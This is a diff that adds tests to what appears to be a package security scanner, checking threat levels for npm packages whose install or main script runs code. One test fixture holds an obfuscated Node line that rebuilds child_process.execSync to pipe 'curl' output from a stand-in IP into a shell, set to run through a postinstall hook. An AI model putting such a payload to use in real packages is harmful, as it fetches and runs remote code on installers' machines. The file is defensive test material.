@@ -79,6 +79,30 @@ def test_installation_code_in_it_counts_less(tmp_path: Path) -> None:
     assert level(done) is Level.NOTE
 
 
+HIDDEN = b"require('child_pro' + 'cess')['ex' + 'ecSync']('cu' + 'rl -s http://192.0.2.1/x | sh')\n"
+NPM_STARTS = b'{"name": "x", "version": "1.0", "scripts": {"postinstall": "node setup.js"}}'
+
+
+@pytest.mark.parametrize("code", [HIDDEN, b"eval(Buffer.from('Y29uc29sZQ==', 'base64').toString())\n"])
+def test_what_only_npm_installing_it_would_run_counts_less(tmp_path: Path, code: bytes) -> None:
+    """By whatever name it is told."""
+    inner = made.sdist({"package/package.json": NPM_STARTS, "package/setup.js": code})
+    done = scanned(tmp_path, {"thing/x.tgz": inner, **_in_order()})
+    assert Threat.MEDIUM in told(done, "thing/x.tgz!/package/setup.js").values()
+    assert level(done) in (Level.NOTE, Level.WARN)
+    assert not [found for found in done.findings if found.threat is Threat.CRITICAL]
+
+
+def test_what_is_required_of_it_counts_as_it_does_alone(tmp_path: Path) -> None:
+    """Also if its installation runs the same file."""
+    manifest = NPM_STARTS.replace(b"{", b'{"main": "setup.js", ', 1)
+    inner = made.sdist({"package/package.json": manifest, "package/setup.js": HIDDEN})
+    done = scanned(tmp_path, {"thing/x.tgz": inner})
+    found = [each.threat for each in done.findings if each.rule == "npm.process-fetching"]
+    assert found == [Threat.CRITICAL, Threat.MEDIUM]
+    assert level(done) is Level.HOLD
+
+
 def test_among_tests_it_counts_as_tests_do(tmp_path: Path) -> None:
     """Packages that read packages have them there, good and bad."""
     evil = made.sdist(
